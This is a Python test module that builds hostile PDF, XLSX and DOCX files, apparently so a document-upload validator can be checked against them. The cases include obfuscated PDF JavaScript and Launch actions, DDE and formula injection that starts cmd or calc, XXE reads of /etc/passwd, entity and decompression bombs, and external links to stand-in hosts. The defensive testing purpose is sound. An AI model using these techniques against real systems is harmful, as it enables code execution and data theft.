"""Hostile PDF, Excel and Word files."""

from __future__ import annotations

import base64
import io
import zipfile
import zlib
from collections.abc import Iterator

from tests.apps.evidence import good_files as good
from tests.apps.evidence.hostile_kit import FOREIGN, GOOD, MIB, SLOT, Hostile, little_zip

# -- PDF ------------------------------------------------------------------------------------------------

JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
_OBJECTS = b"5 0 6 50 << /S /JavaScript /JS (app.alert(1)) >> << /Type /Action >>"


def _stream(data: bytes, head: bytes = b"") -> bytes:
    return b"<< /Length %d %b >>\nstream\n%b\nendstream" % (len(data), head, data)


def _hidden(encoded: bytes, filters: bytes) -> bytes:
    """Objects in a stream, encoded somehow."""
    head = b"/Type /ObjStm /N 2 /First 9 /Filter " + filters
    return good.pdf_with(_stream(encoded, head))


def _run_length(data: bytes) -> bytes:
    parts = [data[at : at + 100] for at in range(0, len(data), 100)]
    return b"".join(bytes([len(part) - 1]) + part for part in parts) + b"\x80"


def pdfs() -> Iterator[Hostile]:
    for label, content in (_scripts() | _doings() | _bent()).items():
        yield Hostile("pdf", label, "a.pdf", content, "other")


def _scripts() -> dict[str, bytes]:
    """A program in the open, and packed in every way that hides it."""
    flate = zlib.compress(_OBJECTS)
    a85 = base64.a85encode(flate) + b"~>"
    return {
        "script on opening": good.pdf_with(catalogue=b"/OpenAction " + JS),
        "script as an object": good.pdf_with(JS, catalogue=b"/OpenAction 4 0 R"),
        "script in the name tree": good.pdf_with(catalogue=b"/Names << /JavaScript 4 0 R >>"),
        "script, one letter escaped": good.pdf_with(b"<< /S /J#61vaScript /JS (x) >>"),
        "script, all letters escaped": good.pdf_with(
            b"<< /S /" + b"".join(b"#%02X" % sign for sign in b"JavaScript") + b" /JS (x) >>"
        ),
        "script, escaped in lower case": good.pdf_with(b"<< /S /#4a#61vaScript >>"),
        "script in a form field": good.pdf_with(b"<< /AA << /K " + JS + b" >> >>"),
        "script packed": _hidden(flate, b"/FlateDecode"),
        "script packed, short name": _hidden(flate, b"/Fl"),
        "script packed, in a list": _hidden(flate, b"[/FlateDecode]"),
        "script packed, filter escaped": _hidden(flate, b"/Fl#61teDecode"),
        "script packed twice": _hidden(zlib.compress(flate), b"[/FlateDecode /FlateDecode]"),
        "script in hex": _hidden(_OBJECTS.hex().encode() + b">", b"/ASCIIHexDecode"),
        "script in hex and packed": _hidden(
            flate.hex().encode() + b">", b"[/ASCIIHexDecode /FlateDecode]"
        ),
        "script in base 85": _hidden(base64.a85encode(_OBJECTS) + b"~>", b"/ASCII85Decode"),
        "script in base 85 and packed": _hidden(a85, b"[ /ASCII85Decode /FlateDecode ]"),
        "script in run lengths": _hidden(_run_length(_OBJECTS), b"/RunLengthDecode"),
        "script in LZW": _hidden(b"\x80\x0b\x60", b"/LZWDecode"),
        "filter that is elsewhere": _hidden(flate, b"9 0 R"),
        "unknown filter": _hidden(flate, b"/Crypt"),
        "objects behind a predictor": _hidden(
            flate, b"/FlateDecode /DecodeParms << /Predictor 12 >>"
        ),
        "objects as a picture": _hidden(flate, b"/DCTDecode"),
        "comment inside the filter": _hidden(flate, b"%x\n /FlateDecode"),
        "stream inside a stream": good.pdf_with(
            _stream(b"5 0 obj\n" + _stream(flate, b"/First 9 /Filter /FlateDecode"))
        ),
        "very long dictionary": good.pdf_with(
            _stream(flate, b"/Pad (" + b"x" * 40_000 + b") /Filter /FlateDecode")
        ),
        "packed data broken": _hidden(flate[:-8] + b"xxxxxxxx", b"/FlateDecode"),
        "stream bomb": good.pdf_with(_stream(zlib.compress(bytes(120 * MIB)), b"/Filter /Fl")),
        "external stream": good.pdf_with(_stream(b"", b"/F (http://example.org/x)")),
    }


def _doings() -> dict[str, bytes]:
    """Papers that start, carry, send or lock something."""
    attached = _stream(b"MZ", b"/Type /EmbeddedFile")
    return {
        "launch": good.pdf_with(b"<< /S /Launch /F (cmd.exe) >>"),
        "launch for Windows": good.pdf_with(b"<< /S /Launch /Win << /F (cmd.exe) >> >>"),
        "launch escaped": good.pdf_with(b"<< /S /L#61unch /F (cmd.exe) >>"),
        "attachment": good.pdf_with(attached, catalogue=b"/Names << /EmbeddedFiles 4 0 R >>"),
        "attachment by note": good.pdf_with(b"<< /Subtype /FileAttachment /FS 5 0 R >>"),
        "attachment opened": good.pdf_with(b"<< /S /GoToE /T << /R /C >> >>"),
        "rich media": good.pdf_with(b"<< /Subtype /RichMedia >>"),
        "rendition": good.pdf_with(b"<< /S /Rendition /JS (x) >>"),
        "form data sent away": good.pdf_with(b"<< /S /SubmitForm /F (http://example.org) >>"),
        "form data taken in": good.pdf_with(b"<< /S /ImportData /F (x) >>"),
        "XFA form": good.pdf_with(catalogue=b"/AcroForm << /XFA 4 0 R >>"),
        "XFA list": good.pdf_with(catalogue=b"/AcroForm << /XFA [ (a) 4 0 R ] >>"),
        "locked": good.pdf_with(b"<< /Filter /Standard /V 1 >>", trailer=b"/Encrypt 4 0 R"),
        "locked inline": good.pdf_with(trailer=b"/Encrypt << /Filter /Standard >>"),
    }


def _bent() -> dict[str, bytes]:
    """Papers that are not whole, or more than one thing."""
    return {
        "junk before": b"junk\n" + good.plain_pdf(),
        "page before": b"<html></html>\n" + good.plain_pdf(),
        "junk after": good.plain_pdf() + b"x" * 3000,
        "program after": good.plain_pdf() + FOREIGN["program"],
        "zip after": good.plain_pdf() + little_zip(),
        "table of offsets beyond the end": good.plain_pdf().replace(
            b"startxref\n", b"startxref\n9"
        ),
        "no table of offsets": good.plain_pdf().replace(b"startxref", b"startnone"),
        "no end": good.plain_pdf().replace(b"%%EOF", b""),
        "no root": good.plain_pdf().replace(b"/Root", b"/Loot"),
        "head alone": b"%PDF-1.7\n",
        "wrong version": good.plain_pdf().replace(b"%PDF-1.7", b"%PDF-9.9"),
        "stream without end": good.pdf_with(_stream(b"x")).replace(b"endstream", b"endstrom"),
    }


# -- Excel and Word ------------------------------------------------------------------------------------------


def changed(whole: bytes, parts: dict[str, bytes | None], **replaced: tuple[str, str]) -> bytes:
    """A copy of an archive with parts added or (None) left out, and texts replaced in parts."""
    out = io.BytesIO()
    swaps = list(replaced.values())
    with (
        zipfile.ZipFile(io.BytesIO(whole)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for name in source.namelist():
            content = source.read(name)
            if name in parts:
                continue
            for old, new in swaps:
                content = content.replace(old.encode(), new.encode())
            target.writestr(name, content)
        for name, body in parts.items():
            if body is not None:
                target.writestr(name, body)
    return out.getvalue()


def part_of(whole: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(whole)) as source:
        return source.read(name).decode()


_RELATION = (
    '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/{kind}" Target="{target}"{mode}/></Relationships>'
)
_OUT = ' TargetMode="External"'
XXE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_LAUGHS = (
    '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
)


def _related(kind: str, relation: str, target: str, mode: str = _OUT) -> bytes:
    rels = "xl/_rels/workbook.xml.rels" if kind == "xlsx" else "word/_rels/document.xml.rels"
    text = part_of(GOOD[kind](), rels)
    more = _RELATION.format(kind=relation, target=target, mode=mode)
    return changed(GOOD[kind](), {rels: text.replace("</Relationships>", more).encode()})


def with_doctype(kind: str, part: str, doctype: str) -> bytes:
    text = part_of(GOOD[kind](), part)
    at = text.index("?>") + 2 if text.startswith("<?xml") else 0
    return changed(GOOD[kind](), {part: (text[:at] + doctype + text[at:]).encode()})


def _formula(text: str) -> bytes:
    sheet = part_of(good.xlsx(), "xl/worksheets/sheet1.xml")
    cell = f'<row r="900"><c r="A900"><f>{text}</f><v>0</v></c></row></sheetData>'
    return changed(
        good.xlsx(), {"xl/worksheets/sheet1.xml": sheet.replace("</sheetData>", cell).encode()}
    )


def _field(runs: list[str]) -> bytes:
    document = part_of(good.docx(), "word/document.xml")
    inner = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    more = f"<w:p>{inner}</w:p><w:sectPr"
    return changed(
        good.docx(), {"word/document.xml": document.replace("<w:sectPr", more, 1).encode()}
    )


def offices() -> Iterator[Hostile]:
    for kind in ("xlsx", "docx"):
        for label, content in _office_cases(kind).items():
            yield Hostile("office", f"{kind}, {label}", f"a.{kind}", content, SLOT[kind])
    for label, text in (
        ("starts a program", "cmd|'/c calc'!A0"),
        ("starts a program, in capitals", "MSEXCEL|'..\\calc'!A0"),
        ("starts a program, in a sum", "SUM(1,cmd|' /c calc'!A0)"),
        ("fetches an address", 'WEBSERVICE("http://example.org/"&amp;A1)'),
        ("calls a library", 'CALL("urlmon","URLDownloadToFileA","JJCCJJ",0)'),
        ("registers a function", 'REGISTER("kernel32","WinExec","JCJ","X")'),
        ("runs a macro function", 'EXEC("calc.exe")'),
        ("real-time data", 'RTD("x",,"y")'),
        ("links to a file", 'HYPERLINK("file:///c:/x.exe","点我")'),
        ("links to a share", 'HYPERLINK("\\\\host\\x.exe","点我")'),
    ):
        yield Hostile("office", f"formula that {label}", "a.xlsx", _formula(text), "list")
    for label, runs in (
        ("DDE", [' DDE "cmd" "/c calc" ']),
        ("DDEAUTO", [' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" ']),
        ("DDE in pieces", [" D", "D", 'E "cmd" "/c calc" ']),
        ("DDEAUTO in pieces", ["DDE", "AUTO ", '"cmd"']),
        ("INCLUDEPICTURE", [' INCLUDEPICTURE "http://example.org/x.png" ']),
        ("INCLUDETEXT", [' INCLUDETEXT "\\\\host\\x.docx" ']),
        ("MACROBUTTON", [" MACROBUTTON AutoOpen 点我 "]),
    ):
        yield Hostile("office", f"field {label}", "a.docx", _field(runs), "contract")


# Parts that no list or letter needs, and relations that lead out of the file.
_PARTS = (
    "activeX/activeX1.xml",
    "activeX/activeX1.bin",
    "embeddings/oleObject1.bin",
    "embeddings/book.xlsx",
    "macrosheets/sheet1.xml",
    "externalLinks/externalLink1.xml",
    "connections.xml",
    "queryTables/queryTable1.xml",
    "attachedToolbars.bin",
    "afchunk.mht",
    "media/run.exe",
    "media/page.html",
    "media/script.js",
    "media/pack.zip",
    "media/image.svg",
)
_OUTSIDE = (
    ("attachedTemplate", "http://example.org/evil.dotm"),
    ("externalLinkPath", "file:///c:/secret.xlsx"),
    ("oleObject", "http://example.org/x"),
    ("image", "http://example.org/track.png"),
    ("frame", "http://example.org/"),
    ("subDocument", "http://example.org/x.docx"),
    ("aFChunk", "http://example.org/x.mht"),
    ("hyperlink", "file:///c:/windows/system32/calc.exe"),
    ("hyperlink", "\\\\host\\share\\x.exe"),
    ("hyperlink", "javascript:alert(1)"),
    ("hyperlink", "ms-msdt:/id"),
)


def _office_cases(kind: str) -> dict[str, bytes]:
    whole = GOOD[kind]()
    folder = "xl" if kind == "xlsx" else "word"
    main = "xl/workbook.xml" if kind == "xlsx" else "word/document.xml"
    other = "docx" if kind == "xlsx" else "xlsx"
    types = part_of(whole, "[Content_Types].xml")
    sheet, word = "spreadsheetml.sheet.main", "wordprocessingml.document.main"
    plain = f"application/vnd.openxmlformats-officedocument.{sheet if kind == 'xlsx' else word}+xml"
    macro = (
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
        if kind == "xlsx"
        else "application/vnd.ms-word.document.macroEnabled.main+xml"
    )
    template = plain.replace("sheet.main", "template.main").replace(
        "document.main", "template.main"
    )
    typed = "[Content_Types].xml"
    part = {f"{folder}/{name}": b"x" for name in ("vbaProject.bin", "vbaData.xml", "evil.bin")}
    cases = {name: changed(whole, {name: body}) for name, body in part.items()}
    for name in _PARTS:
        cases[name] = changed(whole, {f"{folder}/{name}": b"<a/>"})
    cases["customUI"] = changed(whole, {"customUI/customUI.xml": b"<a/>"})
    cases["program as a picture"] = changed(whole, {f"{folder}/media/x.png": FOREIGN["program"]})
    cases["zip as a picture"] = changed(whole, {f"{folder}/media/x.png": little_zip()})
    cases["macro type"] = changed(whole, {typed: types.replace(plain, macro).encode()})
    cases["template type"] = changed(whole, {typed: types.replace(plain, template).encode()})
    cases["type of the other kind"] = changed(
        whole, {typed: part_of(GOOD[other](), typed).encode()}
    )
    cases["no types"] = changed(whole, {typed: None})
    cases["no main part"] = changed(whole, {main: None})
    cases["main part broken"] = changed(whole, {main: b"<a><b></a>"})
    cases["main part of zeros"] = changed(whole, {main: bytes(500)})
    cases["deep nesting"] = changed(whole, {main: b"<a>" * 5000 + b"</a>" * 5000})
    cases["bomb in a part"] = changed(
        whole, {f"{folder}/big.xml": b"<a>" + b" " * (90 * MIB) + b"</a>"}
    )
    cases["path upwards"] = changed(whole, {"../../evil.xml": b"<a/>"})
    parts = [typed, "_rels/.rels", main, f"{folder}/styles.xml", "docProps/core.xml"]
    for name in parts:
        cases[f"external entity in {name}"] = with_doctype(kind, name, XXE)
        cases[f"entity bomb in {name}"] = with_doctype(kind, name, _LAUGHS)
    text = part_of(whole, main)
    wide = (text[: text.index("?>") + 2].replace("UTF-8", "UTF-16") + XXE + "<a/>").encode("utf-16")
    cases["external entity in UTF-16"] = changed(whole, {main: wide})
    for relation, target in _OUTSIDE:
        cases[f"{relation} to {target}"] = _related(kind, relation, target)
    for relation in ("vbaProject", "oleObject", "package", "aFChunk", "control"):
        cases[f"{relation} inside"] = _related(kind, relation, "styles.xml", "")
    return cases
